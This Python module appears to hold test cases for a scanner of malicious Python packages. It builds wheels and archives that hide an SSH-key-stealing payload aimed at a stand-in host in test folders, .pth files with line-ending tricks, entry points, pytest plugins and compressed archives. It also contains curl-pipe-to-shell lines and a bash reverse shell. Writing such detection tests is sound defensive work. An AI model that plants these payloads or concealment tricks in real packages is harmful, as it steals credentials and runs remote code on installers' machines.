"""Code where nobody looks: among tests, in archives of data, and started from elsewhere."""
import io
import lzma
import tarfile
import zipfile

from .package import attack, elf, honest, source

STEALS = '''
    import urllib.request

    def send():
        key = open("/home/user/.ssh/id_rsa").read()
        urllib.request.urlopen("http://collect.example.org/", data=key.encode())

    send()
    '''


def tar(files, mode="w:xz"):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=mode) as t:
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    return out.getvalue()


def zipped(files):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in files.items():
            z.writestr(zipfile.ZipInfo(name), data)
    return out.getvalue()


@attack
def tests_imported_by_init(p):
    """The package imports a module of its own tests, which steals. Must be held."""
    return p.wheel("from .tests import check\n", files={"{m}/tests/__init__.py": b"", "{m}/tests/check.py": STEALS})


@attack
def tests_imported_absolutely(p):
    """A folder "tests" beside the package, imported by a module that is not the first. Must be held."""
    return p.wheel("from .tables import columns\nfrom . import more\n",
                   files={"{m}/more.py": "import tests.check\n", "tests/check.py": STEALS})


@attack
def tests_imported_through_tests(p):
    """The package imports a harmless module of its tests, which imports the one that steals. Must be held."""
    return p.wheel("import {m}.examples.first\n".replace("{m}", p.module),
                   files={"{m}/examples/__init__.py": b"", "{m}/examples/first.py": "from . import second\n",
                          "{m}/examples/second.py": STEALS})


@attack
def tests_imported_by_name(p):
    """importlib imports a module of the tests by a name put together from pieces. Must be held."""
    return p.wheel('''
        import importlib

        importlib.import_module("." + "tes" + "ts.check", __package__)
        ''', files={"{m}/tests/check.py": STEALS})


@attack
def tests_imported_by_pth(p):
    """A .pth file imports a module of the tests when any Python starts. Must be held."""
    return p.wheel(files={"tables_start.pth": b"import tests.check\n", "tests/check.py": STEALS})


def started(p, pth):
    return p.wheel(files={"tables_start.pth": pth, "tests/check.py": STEALS})


@attack
def tests_imported_by_pth_behind_cr(p):
    """A .pth file whose only LF ends a comment for readers that do not know CR. Must be held."""
    return started(p, b"# paths\rimport tests.check\n")


@attack
def tests_imported_by_pth_behind_form_feed(p):
    """A line of a .pth file that only Python 3.13 and later see. Must be held."""
    return started(p, b"# paths\fimport tests.check\n")


@attack
def tests_imported_by_pth_behind_line_separator(p):
    """The same with U+2028. Must be held."""
    return started(p, "# paths\u2028import tests.check\n".encode())


@attack
def tests_imported_by_pth_behind_bom(p):
    """A .pth file that begins with a BOM, which Python 3.13 skips. Must be held."""
    return started(p, b"\xef\xbb\xbfimport tests.check\n")


@attack
def tests_imported_by_pth_in_latin_1(p):
    """A line end of Latin-1, in a .pth file that is not UTF-8. Must be held."""
    return started(p, b"# caf\xe9\x85import tests.check\n")


@attack
def tests_imported_by_pth_behind_a_broken_line(p):
    """A line that older versions of Python stop at, and later ones read as two. Must be held."""
    return started(p, b'import os\f"""\nimport tests.check\n')


@attack
def tests_put_on_the_path_behind_cr(p):
    """A .pth file puts the folder of the tests on the path, by a line that ends with CR, and imports from it.
    Must be held."""
    return started(p, b"tests\rimport check\r")


@honest
def pth_of_comments(p):
    """A .pth file in the manner of Windows that does nothing, beside tests that do much."""
    return started(p, b"# paths of this package: none\r\n# import tests.check\r\n\r\n")


@attack
def tests_of_an_entry_point(p):
    """The command of the package is a function of its tests. Must be held."""
    return p.wheel(files={"{m}/tests/__init__.py": b"", "{m}/tests/check.py": STEALS}, entry_points='''
        [console_scripts]
        tables-show = {m}.tests.check:send
        ''')


@attack
def tests_on_the_path(p):
    """The package puts the folder of its tests on sys.path and imports from there. Must be held."""
    return p.wheel('''
        import os
        import sys

        sys.path.insert(0, os.path.join(os.path.dirname(__file__), "fixtures"))
        import measure
        ''', files={"{m}/fixtures/measure.py": STEALS})


@attack
def tests_run_by_runpy(p):
    """A script of the wheel runs a file of the tests by its path. Must be held."""
    return p.wheel(files={"{m}/run.py": '''
        import os
        import runpy

        runpy.run_path(os.path.join(os.path.dirname(__file__), "tests", "check_tables.py"))
        ''', "{m}/tests/check_tables.py": STEALS})


@attack
def tests_run_as_a_module(p):
    """The package starts Python with -m and a module of its tests. Must be held."""
    return p.wheel(files={"{m}/tests/check.py": STEALS}, init=f'''
        import subprocess
        import sys


        def check():
            subprocess.run([sys.executable, "-m", "{p.module}.tests.check"])
        ''')


@attack
def tests_native_imported(p):
    """An extension module lies among the tests of a wheel for any platform, and the package imports it. Must be
    held."""
    return p.wheel("from .tests import _speed\n", files={"{m}/tests/_speed.so": elf(b"\x90" * 4000)})


@attack
def tests_imported_in_sdist(p):
    """The same by way of a source archive, whose setup.py only declares. Must be held."""
    return p.sdist("from .tests import check\n", files={"{m}/tests/__init__.py": b"", "{m}/tests/check.py": STEALS})


@attack
def pytest_plugin_among_tests(p):
    """pytest loads a plug-in out of the tests in every project of whoever installed this. Must be held."""
    return p.wheel(files={"{m}/testing/__init__.py": b"", "{m}/testing/plugin.py": STEALS}, entry_points='''
        [pytest11]
        tables = {m}.testing.plugin
        ''')


@attack
def conftest_on_top(p):
    """A conftest.py on top of site-packages, which steals as soon as it is imported. Must be held."""
    return p.wheel(files={"conftest.py": STEALS})


@attack
def archive_among_tests_unpacked(p):
    """Source in a packed archive among the tests; the package unpacks it when it is called. Must be held."""
    return p.wheel('''
        import os
        import tarfile


        def restore(folder):
            name = os.path.join(os.path.dirname(__file__), "tests", "data", "tables.tar.xz")
            tarfile.open(name).extractall(folder)
        ''', files={"{m}/tests/data/tables.tar.xz": tar({"tables/tests/check.py": source(STEALS)})})


@attack
def archive_of_data_unpacked(p):
    """Source in a packed archive of data; the package unpacks it when it is called. Must be held."""
    return p.wheel('''
        import pkgutil


        def restore():
            return pkgutil.get_data(__name__, "data/tables.bin")
        ''', files={"{m}/data/tables.bin": tar({"tables/check.py": source(STEALS)}, "w:gz")})


@attack
def source_packed_among_tests(p):
    """A packed file of source among the tests, executed by the package. Must be held."""
    return p.wheel('''
        import lzma
        import os

        exec(lzma.open(os.path.join(os.path.dirname(__file__), "tests", "check.py.xz")).read())
        ''', files={"{m}/tests/check.py.xz": lzma.compress(source(STEALS))})


@attack
def archive_named_text(p):
    """An archive with source, under the name of a text. Must be held."""
    return p.wheel(files={"{m}/data/notes.txt": zipped({"check.py": source(STEALS)})})


@attack
def shell_among_tests_started(p):
    """The package starts a shell script of its tests, which fetches another and runs it. Must be held."""
    return p.wheel('''
        import os
        import subprocess


        def check():
            subprocess.run(["sh", os.path.join(os.path.dirname(__file__), "tests", "check.sh")])
        ''', files={"{m}/tests/check.sh": b"#!/bin/sh\ncd /tmp\ncurl -fsSL https://cdn.example.net/i.sh \\\n | sh\n"})


@attack
def shell_named_text_started(p):
    """The package has a shell run a file that is named like a text. Must be held."""
    return p.wheel('''
        import os


        def check():
            os.system("sh data/check.txt")
        ''', files={"{m}/data/check.txt": b"cd /tmp\ncurl -fsSL https://cdn.example.net/i.sh | sh\n"})


@attack
def shell_as_a_command(p):
    """The command that the wheel installs is a shell script that fetches another. Must be held."""
    return p.packed(__import__("house").wheels.pack(p.members(files={
        f"{p.module}-{p.version}.data/scripts/tables-show":
            b"#!/bin/sh\nwget -qO- https://cdn.example.net/i.sh | bash\n"})))


@attack
def archive_with_what_rules_see(p):
    """A JavaScript in a packed archive whose text the rules know. Must be held."""
    return p.wheel(files={"{m}/static/app.tar.lzma": lzma.compress(tar({"app/install.js": (
        b"const cp = require('child_process');\n"
        b"cp.exec('curl -s http://198.51.100.7/i.sh | bash');\n"
        b"cp.exec('bash -i >& /dev/tcp/198.51.100.7/4444 0>&1');\n")}, "w:"), format=lzma.FORMAT_ALONE)})


@attack
def source_in_lzma(p):
    """Source in the older .lzma, executed by the package. Must be held."""
    return p.wheel('''
        import lzma
        import os

        exec(lzma.open(os.path.join(os.path.dirname(__file__), "check.py.lzma")).read())
        ''', files={"{m}/check.py.lzma": lzma.compress(source(STEALS), format=lzma.FORMAT_ALONE)})


@attack
def tests_imported_behind_comments(p):
    """The name stands in a list in brackets, behind comments. Must be held."""
    return p.wheel("from . import (  # what is needed\n    tables,  # first\n    # and\n    tests)\n",
                   files={"{m}/tests/__init__.py": STEALS})


@attack
def tests_imported_over_lines(p):
    """A dotted name that goes on behind a joined line. Must be held."""
    return p.wheel("from .\\\n tests import check\n",
                   files={"{m}/tests/__init__.py": b"", "{m}/tests/check.py": STEALS})


@attack
def link_in_archive_is_source(p):
    """A module in a ZIP that says it is a symbolic link: to Python it is a file. Must be held."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        info = zipfile.ZipInfo("check.py")
        info.create_system, info.external_attr = 3, 0o120777 << 16
        z.writestr(info, source(STEALS))
    return p.wheel('''
        import os
        import sys

        sys.path.insert(0, os.path.join(os.path.dirname(__file__), "extra.zip"))
        import check
        ''', files={"{m}/extra.zip": out.getvalue()})


QUIET = '''
    import urllib.request

    DATA = urllib.request.urlopen("http://127.0.0.1:8000/").read()
    '''


@honest
def tests_that_use_the_network(p):
    """Tests that ask a server as soon as they are imported; nothing else imports them."""
    return p.wheel("from .tables import columns\n\ntests = columns\n",
                   files={"{m}/tests/__init__.py": b"", "{m}/tests/test_fetch.py": QUIET,
                          "{m}/testing.py": "def tests():\n    \"\"\"Runs the tests in {m}/tests with pytest.\"\"\"\n"})


@honest
def helpers_among_tests(p):
    """The package offers helpers for the tests of others; what they import is harmless, the tests beside are not."""
    return p.wheel("from .testing import helpers\n",
                   files={"{m}/testing/__init__.py": b"", "{m}/testing/helpers.py": "def same(a, b):\n    return a == b\n",
                          "{m}/testing/tests/test_fetch.py": QUIET})


@honest
def archive_among_tests(p):
    """An archive of sources as an input of tests; only the tests name it."""
    return p.wheel(files={"{m}/tests/test_read.py": 'NAME = "project.tar.gz"\n',
                          "{m}/tests/data/project.tar.gz": tar({"project/check.py": source(STEALS)}, "w:gz")})


@honest
def shell_script_that_is_started(p):
    """The package starts a shell script of its own that is harmless."""
    return p.wheel('''
        import os
        import subprocess


        def show():
            subprocess.run(["sh", os.path.join(os.path.dirname(__file__), "show.sh")])
        ''', files={"{m}/show.sh": b"#!/bin/sh\n# not: curl https://example.org/i.sh | sh\nprintf '%s\\n' \"$@\"\n"})


@attack
def tests_imported_by_a_method_named_startswith(p):
    """A class of the package has a method startswith, which imports what it is given. Must be held."""
    return p.wheel('''
        import importlib


        class Modules:
            def startswith(self, name):
                return importlib.import_module(name)


        Modules().startswith("{m}.tests.check")
        '''.replace("{m}", p.module), files={"{m}/tests/__init__.py": b"", "{m}/tests/check.py": STEALS})


@attack
def tests_imported_by_a_method_of_another_file(p):
    """The same, where another file has the class. Must be held."""
    return p.wheel('from .modules import MODULES\n\nMODULES.startswith("{m}.tests.check")\n'.replace("{m}", p.module), files={
        "{m}/modules.py": '''
            import importlib


            class Modules:
                def startswith(self, name):
                    return importlib.import_module(name)


            MODULES = Modules()
            ''', "{m}/tests/__init__.py": b"", "{m}/tests/check.py": STEALS})


@attack
def tests_imported_by_an_operator_of_another_file(p):
    """The same by `in`. Must be held."""
    return p.wheel('from .modules import MODULES\n\n"{m}.tests.check" in MODULES\n'.replace("{m}", p.module), files={
        "{m}/modules.py": '''
            import importlib


            class Modules:
                def __contains__(self, name):
                    return importlib.import_module(name)


            MODULES = Modules()
            ''', "{m}/tests/__init__.py": b"", "{m}/tests/check.py": STEALS})


@attack
def module_of_tests_imported(p):
    """A module that is called like one of tests is imported by the package. Must be held."""
    return p.wheel("from . import utils_test\n", files={"{m}/utils_test.py": STEALS})


@attack
def module_of_tests_in_a_table(p):
    """The same of one that a table of lazy imports has. Must be held."""
    return p.wheel('''
        import importlib

        PARTS = {"check": "test_check"}


        def __getattr__(name):
            return importlib.import_module("." + PARTS[name], __name__)
        ''', files={"{m}/test_check.py": STEALS})


@attack
def module_of_tests_started(p):
    """The same of one that a command of the package is. Must be held."""
    return p.wheel(files={"{m}/run_test.py": STEALS + "\n    def main(): pass\n"},
                   entry_points="[console_scripts]\n{m} = {m}.run_test:main\n")


@attack
def module_of_tests_is_the_package(p):
    """A module on top that is called like one of tests: what is installed is that. Must be held."""
    return p.wheel(files={"{m}_test.py": STEALS})


@honest
def helpers_of_tests_in_the_package(p):
    """Helpers of tests among the modules, which nothing imports: they ask the machine as they are imported."""
    return p.wheel(files={"{m}/utils_test.py": QUIET, "{m}/testing_utils.py": QUIET, "{m}/a/__init__.py": b"", "{m}/a/conftest.py": QUIET})


@attack
def tests_named_behind_startswith(p):
    """What follows a question for a beginning is imported. Must be held."""
    return p.wheel('''
        import importlib


        def load(name):
            return importlib.import_module(name.startswith("tables") and "{m}.tests." + name)
        '''.replace("{m}", p.module), files={"{m}/tests/__init__.py": b"", "{m}/tests/check.py": STEALS})


@honest
def beginning_of_tests_looked_for(p):
    """Asks whether a path begins with the folder of the tests, which ask a server when they are imported."""
    return p.wheel('''
        def is_test(path):
            return path.startswith("{m}/tests/") or path.endswith(("{m}.tests.test_fetch", "tests/"))
        '''.replace("{m}", p.module), files={"{m}/tests/__init__.py": b"", "{m}/tests/test_fetch.py": QUIET})
